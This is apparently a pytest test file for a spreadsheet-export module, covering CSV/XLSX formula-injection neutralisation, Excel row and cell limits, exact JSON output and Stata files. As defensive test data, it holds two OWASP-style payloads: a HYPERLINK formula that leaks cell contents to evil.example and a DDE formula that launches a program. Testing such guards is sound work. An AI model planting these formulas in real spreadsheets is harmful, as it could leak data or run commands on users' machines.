"""Spreadsheet-safe tables: OWASP formula-injection guard, Excel limits, exact JSON, Stata files."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from workbench.core.tables import (
    EXCEL_MAX_CELL_CHARS,
    EXCEL_MAX_ROWS,
    fit_cell,
    neutralise,
    sheet_name,
    spreadsheet_frame,
    stata_names,
    write_csv,
    write_json_table,
    write_stata,
    write_xlsx,
)

# The two payloads shown on the OWASP "CSV Injection" page [recalled from memory]:
# a link that leaks neighbouring cells, and a DDE command launching a program.
OWASP_HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")'
OWASP_DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    [OWASP_HYPERLINK, OWASP_DDE, "+1+2", "-2+3", "@SUM(A1:A2)", "\tleading tab", "\rleading CR", "\nleading LF"],
)
def test_owasp_trigger_characters_get_a_leading_quote(text: str) -> None:
    """OWASP "CSV Injection": cells starting with = + - @ tab CR (and LF) are prefixed with a single quote."""
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["plain answer", "a=b", "email me@home", "", " =space first", "'already quoted"])
def test_other_text_is_unchanged(text: str) -> None:
    """OWASP "CSV Injection": only the first character matters."""
    assert neutralise(text) == text


def _read_csv_text(path: Path) -> str:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so spreadsheets detect the encoding"
    return raw[3:].decode("utf-8")


def test_csv_neutralises_text_and_keeps_numbers_numeric(tmp_path: Path) -> None:
    """OWASP "CSV Injection" (quote prefix; double quotes escaped as "" per RFC 4180 §2.7); numbers untouched."""
    frame = pd.DataFrame(
        {
            "term": [OWASP_HYPERLINK, OWASP_DDE, "-5 stars", "café"],
            "score": [-0.5, 1.25, -3.0, 0.0],
            "mixed": [-7, "-7", None, "ok"],
        }
    )
    path = write_csv(tmp_path / "t.csv", frame)
    text = _read_csv_text(path)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["term", "score", "mixed"]
    assert rows[1][0] == "'" + OWASP_HYPERLINK
    assert rows[2][0] == "'" + OWASP_DDE
    assert rows[3][0] == "'-5 stars"
    # Embedded double quotes are doubled inside a quoted field (RFC 4180 §2.7).
    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1&A2' in text
    # Numbers are bare, unquoted, and keep their sign: -0.5 is a number, not a formula.
    assert text.splitlines()[1].endswith(",-0.5,-7")
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["score"].tolist() == [-0.5, 1.25, -3.0, 0.0]
    assert rows[2][2] == "'-7"  # the text "-7" in a mixed column is text, so it is neutralised
    assert rows[4][0] == "café"


def test_spreadsheet_frame_leaves_numeric_columns_alone() -> None:
    frame = pd.DataFrame({"x": np.array([-1.5, 2.0]), "n": [-1, 2], "flag": [True, False], "tags": [["a"], ["=b"]]})
    safe = spreadsheet_frame(frame)
    assert safe["x"].dtype == np.float64 and safe["n"].dtype == np.int64 and safe["flag"].dtype == bool
    assert safe["tags"].tolist() == ['["a"]', '["=b"]']  # JSON text starting with "[" is safe
    assert spreadsheet_frame(pd.DataFrame({"=evil": [1]})).columns.tolist() == ["'=evil"]


@pytest.mark.parametrize("dtype", [object, "str"])
def test_long_text_columns_are_neutralised_cell_by_cell_like_short_ones(dtype: object) -> None:
    """OWASP "CSV Injection": long columns take a column-wise path; every trigger cell still gets its quote,
    missing cells stay missing, and the result equals the cell-by-cell path on the same values."""
    base = [OWASP_DDE, "-2", "plain", None, "@home", "\tx", "a=b", ""]
    long = pd.Series(base * 1000, dtype=dtype)
    safe = spreadsheet_frame(pd.DataFrame({"text": long}))["text"]
    short = spreadsheet_frame(pd.DataFrame({"text": pd.Series(base, dtype=dtype)}))["text"]
    # A pandas string column stays a string column (no Python object per cell); others become object columns.
    assert len(long) >= 4096 and safe.dtype == (object if dtype is object else long.dtype)
    expected = short.tolist()
    assert expected[0] == "'" + OWASP_DDE and expected[1] == "'-2" and expected[4] == "'@home" and expected[5] == "'\tx"
    assert expected[2] == "plain" and expected[6] == "a=b" and expected[7] == "" and pd.isna(expected[3])
    got = safe.tolist()
    assert all((pd.isna(a) and pd.isna(b)) or a == b for a, b in zip(got, expected * 1000, strict=True))


def test_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
    """OWASP "CSV Injection" applies to XLSX too; openpyxl reads the cells back (data_type 's' vs 'n', no 'f')."""
    frame = pd.DataFrame({"term": [OWASP_DDE, "+plus", "Straße"], "score": [-0.5, 2.0, np.nan], "n": [1, -2, 3]})
    path, notes = write_xlsx(tmp_path / "t.xlsx", {"keywords": frame})
    assert notes == []
    sheet = openpyxl.load_workbook(path)["keywords"]
    assert [c.value for c in sheet[1]] == ["term", "score", "n"]
    assert sheet["A2"].value == "'" + OWASP_DDE and sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "'+plus"
    assert sheet["A4"].value == "Straße"
    assert sheet["B2"].value == -0.5 and sheet["B2"].data_type == "n"
    assert sheet["B4"].value is None  # NaN is an empty cell
    assert sheet["C3"].value == -2
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["C"].width


def test_xlsx_rows_written_column_wise_match_xlsxwriters_own_cell_writers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The column-wise row writer gives the same file, byte for byte, as XlsxWriter's write_string/number/boolean.

    Reference: XlsxWriter's per-cell writers in constant-memory mode (its XML
    escaping of markup, control characters as _xHHHH_, xml:space for edge
    white space); also over several sheets and empty rows. (Text shaped like its rich-string XML is the one
    deliberate difference: see the next test.)
    """
    import workbench.core.tables as tables

    texts = ["plain", "a & b <c> \"q\"", "ctl\x01\x1f", "_x0041_ kept", " lead", "trail ", "line\nbreak", "a <r>b</r>",
             "", None, "Straße ελληνικά", "\ufffeodd", "tab\tin"]
    n = len(texts)
    frame = pd.DataFrame({
        "text": texts,
        "score": [0.1, -2.5, np.nan, 1e-300, 123456789.123456789, 3.0, 1 / 3, -0.0, 7.0, np.nan, 2.0, 1e20, 5.5],
        "n": np.arange(n, dtype=np.int64) - 3,
        "flag": [i % 3 == 0 for i in range(n)],
        "gap": [None] * n,
    })
    tables_in = {"a": frame, "b": frame.iloc[:0], "c": frame.iloc[[9]]}
    used = []
    check = tables._rows_fast_apply
    monkeypatch.setattr(tables, "_rows_fast_apply", lambda sheet, columns: used.append(check(sheet, columns)) or used[-1])
    fast, _ = write_xlsx(tmp_path / "fast.xlsx", tables_in, max_rows=6, descriptions={"a": "d"})
    assert used and all(used)  # every sheet (contents included) went the column-wise way
    monkeypatch.setattr(tables, "_rows_fast_apply", lambda sheet, columns: False)
    slow, _ = write_xlsx(tmp_path / "slow.xlsx", tables_in, max_rows=6, descriptions={"a": "d"})
    assert fast.read_bytes() == slow.read_bytes()
    book = openpyxl.load_workbook(fast)
    assert book["a"]["A3"].value == "a & b <c> \"q\"" and book["a"]["B3"].value == -2.5 and book["a"]["D2"].value is True
    assert book["a (3)"]["A2"].value == "Straße ελληνικά"


def test_xlsx_text_shaped_like_rich_string_xml_stays_text(tmp_path: Path) -> None:
    """A cell "<r><b>x</r>" is escaped like other text, so the workbook parses (openpyxl) and holds the exact text.

    XlsxWriter's per-cell writer in constant-memory mode copies such text raw
    (its rich-string form), which openpyxl refuses as malformed XML.
    """
    texts = ["<r><b>x</r>", "<r>plain</r>"]
    path, _notes = write_xlsx(tmp_path / "t.xlsx", {"a": pd.DataFrame({"t": texts})})
    book = openpyxl.load_workbook(path)
    assert [c.value for c in book["a"]["A"]] == ["t", *texts]


def test_excel_row_limit_constant() -> None:
    """Microsoft, "Excel specifications and limits": 1,048,576 rows, 32,767 characters per cell [recalled from memory]."""
    assert EXCEL_MAX_ROWS == 1_048_576 == 2**20
    assert EXCEL_MAX_CELL_CHARS == 32_767 == 2**15 - 1


def test_long_table_continues_on_further_sheets(tmp_path: Path) -> None:
    """Splitting is exercised with a 3-row sheet limit (header + 2 rows); the real limit is checked above."""
    frame = pd.DataFrame({"term": [f"t{i}" for i in range(5)], "score": np.arange(5, dtype=float)})
    path, notes = write_xlsx(tmp_path / "t.xlsx", {"kw": frame}, max_rows=3)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["kw", "kw (2)", "kw (3)"]
    values = [r[0] for name in book.sheetnames for r in book[name].iter_rows(min_row=2, values_only=True)]
    assert values == [f"t{i}" for i in range(5)]
    assert all(book[name]["A1"].value == "term" for name in book.sheetnames)
    assert len(notes) == 1 and "3 sheets" in notes[0]


def test_overlong_cell_is_cut_with_a_visible_marker(tmp_path: Path) -> None:
    """Excel's 32,767-character cell limit [recalled from memory], counted in UTF-16 units (emoji count twice)."""
    long_text = "ab" * 20_000
    emoji_text = "😀" * 20_000  # 40,000 UTF-16 units
    frame = pd.DataFrame({"text": [long_text, emoji_text, "short"]})
    path, notes = write_xlsx(tmp_path / "t.xlsx", {"answers": frame})
    sheet = openpyxl.load_workbook(path)["answers"]
    for cell in (sheet["A2"], sheet["A3"]):
        assert len(cell.value.encode("utf-16-le")) // 2 <= EXCEL_MAX_CELL_CHARS
        assert "cut: " in cell.value and "JSON or Parquet" in cell.value
    assert sheet["A2"].value.startswith("abab")
    assert sheet["A4"].value == "short"
    assert any("2 cell(s) longer than" in n for n in notes)
    text, cut = fit_cell("x" * EXCEL_MAX_CELL_CHARS)
    assert not cut and len(text) == EXCEL_MAX_CELL_CHARS


def test_sheet_names_are_valid_and_unique() -> None:
    """Excel sheet names: at most 31 characters, none of [ ] : * ? / \\, unique ignoring case [recalled from memory]."""
    used: set[str] = set()
    names = [sheet_name(n, used) for n in ["a/b:c", "A/B:C", "x" * 40, "x" * 40, "'quoted'", "History"]]
    assert names[0] == "a_b_c" and names[1] == "A_B_C (2)"
    assert all(len(n) <= 31 for n in names) and names[2] != names[3]
    assert names[4] == "quoted" and names[5].lower() != "history"
    assert len({n.lower() for n in names}) == len(names)


def test_json_keeps_exact_text_and_full_precision(tmp_path: Path) -> None:
    """JSON output is not neutralised; floats round-trip exactly (Python json uses the shortest repr)."""
    third = 1.0 / 3.0
    frame = pd.DataFrame({"term": [OWASP_HYPERLINK, "ελληνικά"], "w": [third, np.nan], "tags": [["a", "b"], []]})
    path = write_json_table(tmp_path / "t.json", frame)
    records = json.loads(path.read_text(encoding="utf-8"))
    assert records[0] == {"term": OWASP_HYPERLINK, "w": third, "tags": ["a", "b"]}
    assert records[1]["w"] is None and records[1]["term"] == "ελληνικά"


def test_json_lines_are_what_json_dumps_writes_for_each_record(tmp_path: Path) -> None:
    """Each line of the JSON table equals json.dumps(record, ensure_ascii=False) (Python's json module, the reference).

    The file is assembled column-wise; the records come from json_records, so
    escapes, float reprs, NaN/inf, nested values and pandas' own dtypes must all agree.
    """
    from workbench.core.tables import json_records

    frame = pd.DataFrame({
        "te%xt": ['q"uote\\', "ελλην\n\u2028", None],
        "f": [1.0 / 3.0, np.nan, -np.inf],
        "i": np.array([1, -2, 3], dtype=np.int64),
        "u": np.array([1, 2, 250], dtype=np.uint8),
        "b": [True, False, True],
        "nested": [["x", 1], {"k": np.int64(2)}, np.float64(0.1)],
        "s": pd.Series(["x", None, "z"], dtype="string"),
        "I": pd.array([1, None, 3], dtype="Int64"),
        "f32": np.array([0.1, 2, -0.0], dtype=np.float32),
    })
    path = write_json_table(tmp_path / "t.json", frame)
    text = path.read_text(encoding="utf-8")
    expected = [json.dumps(r, ensure_ascii=False, allow_nan=False) for r in json_records(frame)]
    assert text == "[\n" + ",\n".join(expected) + "\n]\n"
    assert json.loads(text)[2]["f"] == "-inf" and json.loads(text)[1]["s"] is None


def test_list_cells_in_csv_are_json_text(tmp_path: Path) -> None:
    """List cells (terms, flags, masks) are written as json.dumps writes them (Python's json module, the reference)."""
    cells = [["a", "b\"c", "ü"], [], ("t", "u"), [["phone", 39, 46]], ["x", 1.5], ["=not a formula"]]
    frame = pd.DataFrame({"terms": pd.Series(cells, dtype=object)})
    path = write_csv(tmp_path / "t.csv", frame)
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == [json.dumps(list(c), ensure_ascii=False) for c in cells]


def test_stata_names_follow_stata_rules() -> None:
    """Stata variable names: letters, digits, _, not starting with a digit, ≤ 32 characters, reserved words
    excluded (Stata manual [U] 11.3 "Naming conventions") [recalled from memory]."""
    names = stata_names(["respondent_id", "group:country", "Straße", "1st", "in", "x" * 40, "X" * 40, "flag_too short"])
    assert names[0] == "respondent_id"
    assert names[1] == "group_country"
    assert names[2] == "Strae"  # NFKD has no decomposition for ß, so it is dropped
    assert names[3] == "v_1st"
    assert names[4] == "in_"
    assert all(len(n) <= 32 for n in names) and len({n.lower() for n in names}) == len(names)
    assert names[7] == "flag_too_short"


def test_stata_round_trip_with_unicode_and_long_strings(tmp_path: Path) -> None:
    """pandas.read_stata reads back format 118 (Unicode) with strL for text over 2,045 bytes (Stata str# limit)."""
    table = pd.DataFrame(
        {
            "respondent_id": ["r1", "r2"],
            "note": ["Ελληνικά и русский", "x" * 3000],
            "flag_non answer": np.array([1, 0], dtype=np.int8),
            "c_price": np.array([0, 1], dtype=np.int8),
            "n_answers": np.array([2, 1], dtype=np.int32),
            "missing": [None, "y"],
        }
    )
    path = write_stata(tmp_path / "r.dta", table, label="demo study")
    with pd.io.stata.StataReader(path) as reader:
        back = reader.read()
        labels = reader.variable_labels()
        assert reader.data_label == "demo study"
    assert back.columns.tolist() == ["respondent_id", "note", "flag_non_answer", "c_price", "n_answers", "missing"]
    assert back["note"].tolist() == ["Ελληνικά и русский", "x" * 3000]
    assert back["flag_non_answer"].tolist() == [1, 0] and back["c_price"].tolist() == [0, 1]
    assert back["missing"].tolist() == ["", "y"]
    assert labels["flag_non_answer"] == "flag_non answer"
